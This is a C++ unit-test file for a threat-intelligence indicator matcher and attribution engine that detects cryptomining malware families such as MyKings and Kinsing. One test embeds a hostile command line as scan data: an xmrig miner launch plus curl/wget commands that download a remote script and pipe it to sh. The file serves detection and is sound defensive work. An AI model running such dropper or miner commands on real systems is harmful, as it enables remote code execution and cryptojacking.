#include <set>

#include <gtest/gtest.h>

#include "intel/attribution.h"
#include "intel/indicator.h"
#include "intel/kb.h"
#include "intel/matcher.h"

namespace msw::intel {
namespace {

Indicator ind(IndicatorType t, std::string_view v, bool sub = false, std::string family = "f") {
  Indicator i;
  i.type = t;
  i.value = t == IndicatorType::PathPattern ? std::string(v) : *normalize_value(t, v);
  i.subdomains = sub;
  i.family = std::move(family);
  i.source = "test";
  return i;
}

std::set<std::string> values(const Matcher& m, const std::vector<Match>& ms) {
  std::set<std::string> out;
  for (const auto& x : ms) out.insert(m.indicators()[x.indicator].value);
  return out;
}

TEST(Indicator, RefangAndNormalise) {
  EXPECT_EQ(refang("hxxp://evil[.]com/a"), "http://evil.com/a");
  EXPECT_EQ(refang("\xEF\xBB\xBF  1.2.3(.)4 "), "1.2.3.4");
  EXPECT_EQ(refang("user[@]mail[.]ru"), "user@mail.ru");
  EXPECT_EQ(*normalize_value(IndicatorType::Domain, "Pool.SupportXMR.com."), "pool.supportxmr.com");
  EXPECT_EQ(*normalize_value(IndicatorType::Domain, "bücher.example"), "xn--bcher-kva.example");
  EXPECT_EQ(*normalize_value(IndicatorType::Domain, "*.mykings.pw"), "mykings.pw");
  EXPECT_FALSE(normalize_value(IndicatorType::Domain, "1.2.3.4"));
  EXPECT_FALSE(normalize_value(IndicatorType::Domain, "no spaces.com"));
  EXPECT_EQ(*normalize_value(IndicatorType::Sha256, std::string(64, 'A')), std::string(64, 'a'));
  EXPECT_FALSE(normalize_value(IndicatorType::Md5, "xyz"));
  EXPECT_EQ(*normalize_value(IndicatorType::Ip, "2001:DB8:0:0::1"), "2001:db8::1");
  EXPECT_EQ(*normalize_value(IndicatorType::Cidr, "10.1.2.3"), "10.1.2.3/32");
  EXPECT_FALSE(normalize_value(IndicatorType::Cidr, "10.0.0.0/33"));
  EXPECT_EQ(*normalize_value(IndicatorType::Url, "HXXP://Evil.COM/Path?q=1"), "http://evil.com/Path?q=1");
  EXPECT_EQ(punycode_label("münchen"), "xn--mnchen-3ya");
  EXPECT_EQ(punycode_label("ascii"), "ascii");
}

TEST(Indicator, InferType) {
  EXPECT_EQ(infer_type(std::string(32, 'a')), IndicatorType::Md5);
  EXPECT_EQ(infer_type(std::string(40, 'b')), IndicatorType::Sha1);
  EXPECT_EQ(infer_type(std::string(64, 'c')), IndicatorType::Sha256);
  EXPECT_EQ(infer_type("hxxp://x[.]y/z"), IndicatorType::Url);
  EXPECT_EQ(infer_type("192.0.2.1"), IndicatorType::Ip);
  EXPECT_EQ(infer_type("192.0.2.0/24"), IndicatorType::Cidr);
  EXPECT_EQ(infer_type("a@b.c"), IndicatorType::Email);
  EXPECT_EQ(infer_type("js.1226bye.xyz"), IndicatorType::Domain);
  EXPECT_EQ(infer_type("4" + std::string(94, 'A')), IndicatorType::Wallet);
  EXPECT_FALSE(infer_type("two words"));
  EXPECT_FALSE(infer_type("Mysa"));
}

TEST(Matcher, CidrEdgesAndIpv6) {
  Matcher m({ind(IndicatorType::Cidr, "192.168.4.0/22"), ind(IndicatorType::Cidr, "0.0.0.0/0", false, "all"),
             ind(IndicatorType::Cidr, "2001:db8::/32"), ind(IndicatorType::Ip, "2001:db8::1")});
  std::vector<Match> out;
  m.match_ip("192.168.4.0", out);
  EXPECT_EQ(values(m, out), (std::set<std::string>{"192.168.4.0/22", "0.0.0.0/0"}));
  out.clear();
  m.match_ip("192.168.7.255", out);
  EXPECT_EQ(out.size(), 2u);
  out.clear();
  m.match_ip("192.168.8.0", out);  // first address after the /22
  EXPECT_EQ(values(m, out), (std::set<std::string>{"0.0.0.0/0"}));
  out.clear();
  m.match_ip("2001:0DB8:0000::0001", out);
  EXPECT_EQ(values(m, out), (std::set<std::string>{"2001:db8::/32", "2001:db8::1"}));
  out.clear();
  m.match_ip("2001:db9::1", out);
  EXPECT_TRUE(out.empty());
}

TEST(Matcher, SubdomainsAreNotLookAlikes) {
  Matcher m({ind(IndicatorType::Domain, "pool.com", true), ind(IndicatorType::Domain, "exact.org")});
  std::vector<Match> out;
  m.match_domain("eu.POOL.com.", out);
  EXPECT_EQ(out.size(), 1u);
  out.clear();
  m.match_domain("evil-pool.com", out);
  EXPECT_TRUE(out.empty());
  m.match_domain("pool.com.evil.net", out);
  EXPECT_TRUE(out.empty());
  m.match_domain("sub.exact.org", out);  // exact indicators do not cover subdomains
  EXPECT_TRUE(out.empty());
  m.match_domain("exact.org", out);
  EXPECT_EQ(out.size(), 1u);
}

TEST(Matcher, IndicatorsInsideLongCommandLines) {
  Matcher m({ind(IndicatorType::Domain, "pool.supportxmr.com", true, "pool"), ind(IndicatorType::Ip, "195.3.146.118"),
             ind(IndicatorType::Url, "http://185.26.113.95:8095/config.json"),
             ind(IndicatorType::Sha256, std::string(64, 'e')), ind(IndicatorType::Wallet, "4" + std::string(94, 'B')),
             ind(IndicatorType::Domain, "mykings.pw", true)});
  std::string cmd(5000, 'x');
  cmd += " ./xmrig -o stratum+tcp://POOL.SupportXMR.com:3333 -u 4" + std::string(94, 'B') + ".rig1 --donate-level 1;";
  cmd += "(curl -s http://195.3.146.118/d.sh||wget -q -O- hxxp://evil-mykings.pw/x)|sh; ";
  cmd += "curl http://185.26.113.95:8095/config.json -o /tmp/c; echo " + std::string(64, 'E');
  std::vector<Match> out;
  m.scan_text(cmd, out);
  auto got = values(m, out);
  EXPECT_TRUE(got.count("pool.supportxmr.com"));
  EXPECT_TRUE(got.count("195.3.146.118"));
  EXPECT_TRUE(got.count("http://185.26.113.95:8095/config.json"));
  EXPECT_TRUE(got.count(std::string(64, 'e')));
  EXPECT_TRUE(got.count("4" + std::string(94, 'B')));
  EXPECT_FALSE(got.count("mykings.pw")) << "evil-mykings.pw is a look-alike, not a subdomain";
  EXPECT_EQ(got.size(), 5u);
}

TEST(Matcher, NamesAndRegexes) {
  auto svc = ind(IndicatorType::ServiceName, "x");
  svc.value = "^(Windows|Microsoft|Network)(Update|Time)(Service|Manager)$";
  svc.regex = true;
  Matcher m({ind(IndicatorType::TaskName, "Mysa"), svc, ind(IndicatorType::FileName, "kdevtmpfsi")});
  EXPECT_EQ(m.lookup("mysa").size(), 1u);  // case-insensitive names
  std::vector<Match> out;
  m.match_name(IndicatorType::ServiceName, "NetworkTimeManager", out);
  EXPECT_EQ(out.size(), 1u);
  out.clear();
  m.match_name(IndicatorType::ServiceName, "NetworkTimeManagerX", out);
  EXPECT_TRUE(out.empty());
  EXPECT_EQ(m.lookup("KDEVTMPFSI").size(), 1u);
}

TEST(KnowledgeBase, BuiltInAnswersMyKingsWithSources) {
  Diagnostics d;
  KnowledgeBase kb = builtin_kb(d);
  for (const auto& x : d.items()) EXPECT_NE(x.severity, DiagSeverity::Error) << x.detail;
  ASSERT_GE(kb.families.size(), 8u);
  Matcher m(kb.indicators);
  for (std::string_view v : {"js.1226bye.xyz", "wmi.1217bye.host", "ruisgood.ru", "js.mys2016.info"}) {
    auto hits = m.lookup(v);
    ASSERT_FALSE(hits.empty()) << v;
    bool mykings = false;
    for (const auto& h : hits) {
      const auto& i = m.indicators()[h.indicator];
      mykings = mykings || i.family == "mykings";
      EXPECT_NE(i.source.find("kb:family-mykings.yaml"), std::string::npos) << i.source;
      EXPECT_GT(i.source.size(), 30u);  // the research's own citation follows
    }
    EXPECT_TRUE(mykings) << v;
  }
  EXPECT_FALSE(m.lookup("Mysa1").empty());
  EXPECT_FALSE(m.lookup("kdevtmpfsi").empty());
  auto pool = m.lookup("fr.minexmr.com");
  ASSERT_FALSE(pool.empty());
  EXPECT_EQ(m.indicators()[pool[0].indicator].tags, "mining-pool");
}

TEST(KnowledgeBase, SchemaOfEveryFamily) {
  Diagnostics d;
  KnowledgeBase kb = builtin_kb(d);
  std::set<std::string> ids;
  for (const auto& f : kb.families) {
    EXPECT_TRUE(ids.insert(f.id).second) << "duplicate family " << f.id;
    EXPECT_FALSE(f.names.empty()) << f.id;
    EXPECT_FALSE(f.platforms.empty()) << f.id;
    EXPECT_FALSE(f.summary.empty()) << f.id;
    EXPECT_FALSE(f.remediation_en.empty()) << f.id;
    EXPECT_EQ(f.remediation_zh.size(), f.remediation_en.size()) << f.id << ": every step in Chinese too";
    size_t n = 0;
    for (const auto& i : kb.indicators) n += i.family == f.id;
    EXPECT_GE(n, 10u) << f.id << " gives almost no indicators";
  }
  for (const auto& i : kb.indicators) {
    EXPECT_FALSE(i.source.empty());
    EXPECT_TRUE(i.confidence == "high" || i.confidence == "medium" || i.confidence == "low") << i.confidence;
  }
  for (std::string_view id : {"mykings", "wannamine", "lemonduck", "kinsing_h2miner", "teamtnt", "8220_gang", "watchdog",
                              "sysrv_hello"})
    EXPECT_TRUE(ids.count(std::string(id))) << id;
}

TEST(KnowledgeBase, BadYamlIsAnErrorNotACrash) {
  KnowledgeBase kb;
  size_t skipped = 0;
  EXPECT_FALSE(load_kb_yaml("family: [unclosed", "x.yaml", kb, skipped));
  EXPECT_FALSE(load_kb_yaml("family: {names: [a]}", "x.yaml", kb, skipped));  // no id
  EXPECT_TRUE(load_kb_yaml("family: {id: t, network: [{type: domain, values: [ok.example, 'bad name'], source: s}]}", "x.yaml",
                           kb, skipped));
  EXPECT_EQ(kb.indicators.size(), 1u);
  EXPECT_EQ(skipped, 1u);
}

// The one attribution rule (IOC engine and sample analysis): shared things add up but never decide alone.
TEST(FamilyEvidence, SharedIndicatorsNeverAttributeAlone) {
  using T = IndicatorType;
  auto of = [](std::initializer_list<T> types) {
    FamilyEvidence e;
    size_t n = 0;
    for (T t : types) e.add(t, "value " + std::to_string(n++));
    return e;
  };
  EXPECT_FALSE(of({T::FileName}).attributes());                          // "ld.so.preload", "config.json", "d.sh"
  EXPECT_FALSE(of({T::FileName, T::FileName, T::Ip}).attributes());      // 4: thin
  EXPECT_FALSE(of({T::Domain, T::Url, T::Ip, T::Domain}).attributes());  // a dropper's and a pool's: network only
  EXPECT_FALSE(of({T::TaskName, T::TaskName}).attributes());             // one kind
  EXPECT_TRUE(of({T::TaskName, T::Domain}).attributes());                // MyKings' Mysa task and its domain
  EXPECT_TRUE(of({T::Sha1}).attributes());                               // a known file
  EXPECT_TRUE(of({T::Wallet}).attributes());
  FamilyEvidence yara;
  yara.add_decisive(3);
  EXPECT_TRUE(yara.attributes());
  FamilyEvidence merged = of({T::TaskName});
  merged.merge(of({T::Domain}));
  EXPECT_TRUE(merged.attributes());
  EXPECT_EQ(merged.score(), 6);
  FamilyEvidence again;  // one URL found in a command, the URL list and the strings
  for (int i = 0; i < 3; ++i) again.add(T::Url, "http://195.3.146.118/d.sh");
  again.add(T::FileName, "d.sh");
  EXPECT_EQ(again.score(), 5);
  EXPECT_FALSE(again.attributes());
  merged.merge(of({T::TaskName}));  // "value 0" again: counted once
  EXPECT_EQ(merged.score(), 6);
}

}  // namespace
}  // namespace msw::intel
